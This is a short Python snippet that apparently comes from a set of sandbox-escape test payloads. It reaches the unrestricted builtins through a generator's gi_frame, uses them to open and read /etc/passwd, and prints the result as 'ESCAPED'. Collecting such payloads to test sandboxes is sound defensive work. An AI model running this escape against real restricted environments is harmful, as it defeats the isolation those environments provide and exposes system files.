# class: a generator's frame (gi_frame)
def g():
    yield 1
it = g()
print("ESCAPED", it.gi_frame.f_builtins["open"]("/etc/passwd").read())
